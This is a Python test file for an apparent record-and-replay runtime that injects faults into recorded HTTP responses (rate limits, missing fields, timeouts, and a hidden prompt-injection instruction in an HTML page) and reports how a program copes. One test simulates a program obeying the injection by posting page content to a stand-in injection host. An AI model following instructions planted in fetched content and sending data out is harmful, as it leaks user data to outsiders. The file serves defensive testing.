"""Recordings with a fault are recordings, the same for the same seed, and show what a program makes of it."""

from __future__ import annotations

import gzip
import json
from dataclasses import replace

import pytest
from tests.unit.recording.helpers import decide, exchange, recording, replayed, request

from codewords_mcp.runtime.recording.codec import decode, encode
from codewords_mcp.runtime.recording.content import header
from codewords_mcp.runtime.recording.exchanges import Exchange
from codewords_mcp.runtime.recording.faults import (
    INJECTION,
    INJECTION_HOST,
    KINDS,
    SILENCE,
    ResponseFault,
    possible_faults,
    report_fault,
    with_fault,
)
from codewords_mcp.runtime.recording.replay import ReplayRecorder

GET = request("GET", "https://shop.example/orders")
PAGE = request("GET", "https://shop.example/page")
POST = request("POST", "https://pay.example/refunds", {"charge": "ch_1"})


def page(number: int) -> Exchange:
    made = exchange(number, PAGE, b"<html><body>Welcome</body></html>")
    return replace(made, headers=[(b"content-type", b"text/html; charset=utf-8")])


MADE = recording(
    exchange(0, GET, {"orders": [{"id": "o-1"}], "next": None}),
    page(1),
    exchange(2, POST, {"id": "re_1"}),
    answer={"refunded": 1},
)


def fault(kind: str, where: str) -> ResponseFault:
    return next(one for one in possible_faults(MADE) if one.kind == kind and where in one.where)


@pytest.mark.requirement("recording:faults")
def test_each_kind_of_fault_is_possible_somewhere_and_a_seed_chooses_the_same_again() -> None:
    assert {one.kind for one in possible_faults(MADE)} == set(KINDS)
    assert possible_faults(MADE, seed=7, limit=5) == possible_faults(MADE, seed=7, limit=5)
    assert len(possible_faults(MADE, seed=7, limit=5)) == 5
    for one in possible_faults(MADE):
        faulty = with_fault(MADE, one)
        assert faulty != MADE
        assert decode(encode(faulty)).exchanges[0].request == MADE.exchanges[0].request


@pytest.mark.requirement("recording:faults")
def test_a_host_recovers_from_429_for_a_program_that_tries_again() -> None:
    recorder = ReplayRecorder(with_fault(MADE, fault("429", "/orders")))
    assert decide(recorder, GET) == ("answered", b'{"error": "made by a test of faults"}')
    assert decide(recorder, GET) == ("answered", MADE.exchanges[0].body)


@pytest.mark.requirement("recording:faults")
def test_lists_and_fields_go_missing_also_from_compressed_responses() -> None:
    plain = MADE.exchanges[0]
    packed = replace(
        plain,
        chunks=((0.0, gzip.compress(plain.body)),),
        headers=[*plain.headers, (b"content-encoding", b"gzip")],
    )
    made = replace(MADE, exchanges=(packed, *MADE.exchanges[1:]))
    empty = with_fault(made, ResponseFault("empty list", 0, "", ("orders",))).exchanges[0]
    assert json.loads(empty.body) == {"orders": [], "next": None}
    assert (header(empty.headers, b"content-encoding"), header(empty.headers, b"content-length")) == (
        "",
        str(len(empty.body)),
    )
    missing = with_fault(made, ResponseFault("missing field", 0, "", ("orders", 0, "id"))).exchanges[0]
    assert json.loads(missing.body) == {"orders": [{}], "next": None}


@pytest.mark.requirement("recording:faults")
def test_an_instruction_is_hidden_in_a_page_and_a_timeout_is_silence() -> None:
    hidden = with_fault(MADE, fault("injection", "/page")).exchanges[1]
    assert INJECTION.encode() in hidden.body
    assert hidden.body.endswith(b"</body></html>")
    silent = with_fault(MADE, fault("timeout", "/orders")).exchanges[0]
    assert silent.chunks[0][0] > SILENCE


@pytest.mark.requirement("recording:faults")
def test_the_report_says_what_a_program_made_of_it() -> None:
    before = replayed(ReplayRecorder(MADE), [GET, PAGE, POST], MADE, {"refunded": 1})
    limited = fault("429", "/orders")
    after = replayed(ReplayRecorder(with_fault(MADE, limited)), [GET, GET, PAGE, POST], MADE, {"refunded": 1})
    report = report_fault(limited, before, after)
    assert (report.outcome, report.retries, report.new_writes) == ("handled", 1, [])

    injected = fault("injection", "/page")
    stolen = request("POST", f"https://{INJECTION_HOST}/in", {"page": "Welcome"})
    after = replayed(
        ReplayRecorder(with_fault(MADE, injected)), [GET, PAGE, POST, stolen], MADE, {"refunded": 1}
    )
    report = report_fault(injected, before, after)
    assert (report.followed_injection, report.new_writes) == (True, [f"POST {INJECTION_HOST}/in"])

    crashed = replace(replayed(ReplayRecorder(MADE), [GET], MADE), error="program_error")
    report = report_fault(limited, before, crashed)
    assert (report.outcome, report.missing_writes) == ("crashed", ["POST pay.example/refunds"])
